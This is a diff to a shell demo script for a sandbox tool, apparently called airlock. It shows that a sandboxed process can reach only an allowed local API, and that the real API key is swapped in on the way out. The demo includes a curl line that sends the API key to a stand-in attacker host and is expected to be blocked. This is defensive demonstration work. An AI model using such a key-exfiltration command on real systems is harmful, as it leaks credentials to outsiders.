@@ -15,6 +15,7 @@ trap cleanup EXIT
 
 echo "== building airlock"
 CGO_ENABLED=0 go build -o "$work/airlock" ./cmd/airlock
+go build -o "$work/upstream" ./demo/upstream
 
 # A fake home with secrets a real one would have, and a secret in the environment.
 home="$work/home"
@@ -63,3 +64,33 @@ HOME=$home AWS_SECRET_ACCESS_KEY=demo-canary AIRLOCK_STATE_DIR="$work/state" \
 echo "== afterwards, on the host: the workspace edit is there; nothing else changed"
 diff "$work/app.before" "$home/project/app.py" | sed 's/^/  /' || true
 [ ! -e "$home/outside.txt" ] && echo "  $home/outside.txt: does not exist"
+
+# Act two: the network. A stand-in for a public API runs on the host
+# (HTTPS on 127.0.0.3:443, its own CA). The sandbox may reach it and nothing
+# else, and holds only a placeholder for its API key.
+if [ "$(id -u)" != 0 ]; then
+	echo "== (skipping the network act: the demo API listens on port 443, which needs root)"
+	exit 0
+fi
+"$work/upstream" -addr 127.0.0.3:443 -name api.demo.test -ca-out "$work/demo-ca.pem" >"$work/upstream.log" 2>&1 &
+api_pid=$!
+trap 'kill $api_pid 2>/dev/null; cleanup' EXIT
+sleep 0.3
+export DEMO_API_KEY="sk-demo-REAL-KEY-$(date +%s)"
+echo
+echo "== the network, through airlock's gateway (on the host: DEMO_API_KEY=$DEMO_API_KEY)"
+echo "   airlock run --allow-host api.demo.test --secret DEMO_API_KEY@api.demo.test ..."
+HOME=$home AIRLOCK_STATE_DIR="$work/state" "$work/airlock" run --name demo-net \
+	--allow-host api.demo.test --secret DEMO_API_KEY@api.demo.test \
+	--add-host api.demo.test:127.0.0.3 --upstream-ca "$work/demo-ca.pem" -- sh -c '
+	echo "inside: DEMO_API_KEY=$DEMO_API_KEY"
+	echo "-- allowed: curl https://api.demo.test/v1/chat with the key"
+	curl -sS https://api.demo.test/v1/chat -H "Authorization: Bearer $DEMO_API_KEY"
+	echo "-- blocked: curl https://example.com/"
+	curl -sS -o /dev/null https://example.com/ 2>&1 | sed "s/^/   /"
+	echo "-- blocked: the key sent anywhere else"
+	curl -sS -o /dev/null "https://api.demo.test.evil.test/?k=$DEMO_API_KEY" 2>&1 | sed "s/^/   /"'
+echo "-- what the API server on the host received (the real key was swapped in on the way out):"
+sed 's/^/   /' "$work/upstream.log"
+echo "-- airlock audit demo-net"
+AIRLOCK_STATE_DIR="$work/state" "$work/airlock" audit demo-net | sed 's/^/   /'
